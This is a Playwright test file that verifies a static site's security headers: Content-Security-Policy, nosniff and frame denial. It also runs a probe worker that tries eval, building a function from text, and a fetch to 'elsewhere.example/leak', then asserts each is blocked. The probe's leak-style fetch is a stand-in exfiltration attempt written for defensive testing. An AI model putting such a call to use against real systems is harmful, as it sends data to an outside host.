import { readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { extname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from './support/fixtures';

/**
 * Every response is under the policy, checked against the built site and in a
 * real browser (issue 21): once, 404.html and assets/ came without one, so the
 * worker that reads strangers' files could eval and reach other origins.
 */

const DIST = fileURLToPath(new URL('../dist/', import.meta.url));
const PROBE = 'assets/e2e-policy-probe.worker.js';

function* walk(dir: string): Generator<string> {
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) yield* walk(path);
    else yield path;
  }
}

/** One file of each kind the build writes, as a path on the site. */
function oneOfEachKind(): string[] {
  const byKind = new Map<string, string>();
  for (const file of walk(DIST)) {
    const path = `/${relative(DIST, file).split('\\').join('/')}`;
    const kind = `${path.split('/')[1]}:${extname(file)}`;
    if (!byKind.has(kind) && !path.endsWith('_headers')) byKind.set(kind, path);
  }
  return [...byKind.values()];
}

test('every kind of file the build writes, and a path with no file, is served with the policy and cannot be framed', async ({ request }) => {
  const paths = [...oneOfEachKind(), '/no-such-page', '/events/no-such-event/'];
  expect(paths.length).toBeGreaterThan(8);
  for (const path of paths) {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy, path).toMatch(/^default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; font-src 'none';/);
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    // Framing is refused by frame-ancestors where it is named, and by X-Frame-Options everywhere else.
    const ancestors = /frame-ancestors ([^;,]*)/.exec(policy)?.[1];
    if (path.startsWith('/embed/')) expect(ancestors, path).toBe('*');
    else if (ancestors !== undefined) expect(ancestors, path).toBe("'none'");
    expect(headers['x-frame-options'], path).toBe('DENY');
  }
});

test('the worker that reads opened files is served with a policy that forbids eval and foreign connections', async ({ request }) => {
  const worker = readdirSync(join(DIST, 'assets')).find((name) => /^open-file\.worker-[\w-]+\.js$/.test(name));
  expect(worker, 'the built worker').toBeTruthy();
  const policy = (await request.get(`/assets/${worker}`)).headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/(^|; )script-src 'self'(;|,|$)/);
  expect(policy).toMatch(/(^|; )connect-src 'self'(;|,|$)/);
  expect(policy).not.toMatch(/unsafe-eval|wasm-unsafe-eval/);
});

test.describe('a worker from assets/, in Chromium', () => {
  // A worker of our own in assets/, served by the preview with that folder's headers, tries what a hostile file would.
  test.beforeAll(() => {
    writeFileSync(
      join(DIST, PROBE),
      `const violations = [];
self.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective + ' ' + e.blockedURI));
const tried = {};
try { tried.eval = String(eval('1 + 1')); } catch (e) { tried.eval = 'blocked: ' + e.name; }
try { tried.function = String(new Function('return 2 + 2')()); } catch (e) { tried.function = 'blocked: ' + e.name; }
fetch('https://elsewhere.example/leak?x=1').then((r) => r.text(), (e) => 'blocked: ' + e.name).then((fetched) => {
  tried.fetch = fetched;
  setTimeout(() => postMessage({ tried, violations }), 100);
});
`,
    );
  });
  test.afterAll(() => rmSync(join(DIST, PROBE), { force: true }));

  test('cannot eval, build a function from text, or fetch from another origin', async ({ page, context }) => {
    // Were the request to leave, this answer would show it.
    await context.route('https://elsewhere.example/**', (route) => route.fulfill({ body: 'reached', headers: { 'Access-Control-Allow-Origin': '*' } }));
    await page.goto('/about/');
    const result = await page.evaluate(
      (url) =>
        new Promise<{ tried: Record<string, string>; violations: string[] }>((resolve, reject) => {
          const worker = new Worker(url);
          worker.onmessage = (event) => resolve(event.data);
          worker.onerror = (event) => reject(new Error(event.message));
        }),
      `/${PROBE}`,
    );
    expect(result.tried.eval).toBe('blocked: EvalError');
    expect(result.tried.function).toBe('blocked: EvalError');
    expect(result.tried.fetch).toBe('blocked: TypeError');
    expect(result.violations).toEqual(expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/elsewhere\.example/)]));
  });
});

test('a path with no page cannot be framed, even by the site itself', async ({ page }) => {
  await page.goto('/about/');
  const loaded = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = '/no-such-page';
        frame.onload = () => {
          try {
            resolve(frame.contentDocument?.title ?? 'blocked');
          } catch {
            resolve('blocked');
          }
        };
        document.body.append(frame);
      }),
  );
  expect(loaded).not.toMatch(/not exist|not found/i);
});

test('the feeds and the calendar are served with their own content types (issue 23)', async ({ request }) => {
  for (const [path, type] of [
    ['/feed.atom', 'application/atom+xml; charset=utf-8'],
    ['/feed.json', 'application/feed+json; charset=utf-8'],
    ['/timeline.ics', 'text/calendar; charset=utf-8'],
  ]) {
    const response = await request.get(path!);
    expect(response.status(), path).toBe(200);
    expect(response.headers()['content-type'], path).toBe(type);
  }
});
